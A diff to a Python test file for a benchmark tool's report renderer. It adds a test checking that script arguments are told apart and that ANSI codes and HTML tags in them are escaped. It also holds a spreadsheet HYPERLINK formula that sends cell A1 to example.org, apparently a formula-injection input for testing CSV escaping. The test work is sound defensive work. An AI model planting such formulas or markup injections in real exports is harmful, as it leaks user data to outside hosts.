@@ -7,12 +7,19 @@ from typing import Literal
 
 import pandas as pd
 import pytest
+from support.commands import text
+from support.fake_run import noisy_times, step_rows, write_trial
+from support.page import report_page
 from support.profiles import kineto
 
+from analysis.load import load_run
 from analysis.render.page import Badge, Callout, Page, Section, write_page
-from analysis.render.tables import Column, build, measured, plain, spread, texts, write_csv, write_frame
+from analysis.render.result_tables import results_blocks
+from analysis.render.tables import Column, Table, build, measured, plain, spread, texts, write_csv, write_frame
 from analysis.wording import UNKNOWN, batch, inert
 from bench.cli.main import run
+from bench.plan.script import plan_script
+from records.run import RunDirectory
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
 
@@ -81,3 +88,23 @@ def test_badges_and_callouts_escape_their_words_and_name_their_style(
     assert not others and f'<p class="badge {style}">&lt;b&gt;1 &amp; 2</p>' in page
     callout = page[page.index('<div class="callout first">') :]
     assert "Do &lt;i&gt;this" in callout and "<code>bertbench doctor</code>" in callout
+
+
+@pytest.mark.parametrize("sizes", [("8", "16"), ("8", "8")])
+def test_scripts_of_one_name_are_distinguished_by_their_arguments(sizes: tuple[str, str], tmp_path: Path) -> None:
+    folder = RunDirectory(tmp_path)
+    for number, size in enumerate(sizes):
+        command = ("python", "train.py", "--batch", size, "\x1b[31m<b>", "x" * 80)
+        trial = plan_script(folder, command, "train.py")
+        write_trial(folder, trial, {0: step_rows(noisy_times(10.0, 30, number), 8)})
+    table = next(
+        block for block in results_blocks([trial.row for trial in load_run(folder)]) if isinstance(block, Table)
+    )
+    assert ("arguments" in table.headings) == (sizes[0] != sizes[1])
+    if sizes[0] != sizes[1]:
+        cells = [row[table.headings.index("arguments")] for row in table.rows]
+        assert {cell.text[:11].split()[1] for cell in cells} == {"8", "16"}
+        assert all(len(cell.text) == 60 and cell.title.startswith("python train.py") for cell in cells)
+        shown = text([table])
+        assert "--batch 16" in shown and "\x1b" not in shown
+        assert "<b>" not in report_page(folder).read_text(encoding="utf-8")
